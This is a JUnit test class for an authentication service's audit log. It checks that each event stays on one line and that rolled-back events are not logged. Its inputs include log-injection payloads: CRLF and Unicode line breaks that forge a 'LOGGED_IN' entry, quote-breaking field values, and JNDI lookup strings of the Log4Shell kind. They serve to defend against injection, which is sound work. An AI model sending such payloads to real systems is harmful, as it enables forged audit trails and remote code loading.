package dev.doorward.auth.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.doorward.auth.identity.AccountId;
import dev.doorward.auth.identity.Client;
import dev.doorward.auth.store.TestDatabase;
import java.io.IOException;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** One event is one line of the log, whatever strangers send. */
class AuditLineTest {
    private final Logger logger = (Logger) LoggerFactory.getLogger("dev.doorward.audit");
    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
    private final TestDatabase test = TestDatabase.Kind.H2.fresh();
    private final AuditLog audit =
            new AuditLog(test.database(), new AuthListener() {}, Clock.systemUTC(), new SecureRandom());

    @BeforeEach
    void listen() {
        lines.start();
        logger.addAppender(lines);
        logger.setLevel(Level.INFO);
        logger.setAdditive(false);
    }

    @AfterEach
    void leave() {
        logger.detachAppender(lines);
        logger.setLevel(null);
        logger.setAdditive(true);
        test.close();
    }

    @Test
    void a_line_says_who_what_where_and_why() {
        refuse(new Client("192.0.2.1", "Test/1.0"));

        assertEquals(
                List.of(
                        "LOGIN_REFUSED account=- code=invalid_credentials address=\"192.0.2.1\" detail=\"\" agent=\"Test/1.0\""),
                messages());
    }

    @Test
    void an_event_that_is_rolled_back_leaves_no_line() {
        AccountId account = AccountId.random(Clock.systemUTC(), new SecureRandom());
        test.database().useTransaction(handle -> {
            handle.createUpdate("""
                            insert into {s}auth_account (id, email_verified, status, epoch, created_at)
                            values (:id, false, 'active', 1, current_timestamp)
                            """).bind("id", account.value()).execute();
            audit.record(handle, audit.event(AuditType.REGISTERED, account, Client.unknown()));
            handle.rollback();
        });

        assertEquals(List.of(), messages());
    }

    @Test
    void a_user_agent_forges_neither_a_line_nor_a_field() {
        refuse(new Client("192.0.2.1", "x\r\nLOGGED_IN account=1\u2028 \u0085 \u001b[2J\" code=\"ok"));

        String line = onlyMessage();
        assertEquals(1, line.lines().count());
        assertTrue(line.chars().noneMatch(Character::isISOControl), line);
        assertTrue(line.endsWith("' code='ok\""), line);
    }

    @Test
    void an_address_forges_no_field() {
        refuse(new Client("1\" code=\"ok", ""));

        assertTrue(onlyMessage().contains("address=\"1' code='ok\""), onlyMessage());
    }

    @Test
    void a_detail_is_one_line_that_fits_its_column() {
        AuditEvent event = audit.event(
                        AuditType.ROLE_GRANTED,
                        AccountId.random(Clock.systemUTC(), new SecureRandom()),
                        Client.unknown())
                .withDetail("a\nb\u0000" + "c".repeat(195) + "\uD83D\uDE00");

        assertEquals("a?b?" + "c".repeat(195) + "?", event.detail());
    }

    @Test
    void a_jndi_expression_is_text() {
        refuse(new Client("${jndi:ldap://192.0.2.66/a}", "${jndi:ldap://192.0.2.66/a} {} %n"));

        String line = onlyMessage();
        assertTrue(line.contains("address=\"${jndi:ldap://192.0.2.66/a}\""), line);
        assertTrue(line.endsWith("agent=\"${jndi:ldap://192.0.2.66/a} {} %n\""), line);
        assertFalse(
                lines.list.get(0).getMessage().contains("jndi"), "a stranger's text is a parameter, not the format");
    }

    @Test
    void no_line_of_the_injection_corpus_becomes_two() throws IOException {
        String corpora = System.getProperty("corpora.dir", "");
        assumeTrue(!corpora.isEmpty(), "no corpora: set -Dcorpora.dir");
        List<String> corpus = Files.readAllLines(Path.of(corpora, "crlf_injection.txt"));
        for (String line : corpus) {
            String decoded = decoded(line);
            refuse(new Client("192.0.2.1", decoded));
            refuse(new Client(decoded, ""));
        }

        assertEquals(2 * corpus.size(), messages().size());
        assertTrue(messages().stream().allMatch(message -> message.lines().count() == 1));
    }

    private static String decoded(String line) {
        return URLDecoder.decode(URLDecoder.decode(line, StandardCharsets.UTF_8), StandardCharsets.UTF_8);
    }

    private void refuse(Client client) {
        audit.refused(audit.event(AuditType.LOGIN_REFUSED, null, client).withCode("invalid_credentials"));
    }

    private List<String> messages() {
        return lines.list.stream().map(ILoggingEvent::getFormattedMessage).toList();
    }

    private String onlyMessage() {
        assertEquals(1, messages().size());
        return messages().get(0);
    }
}
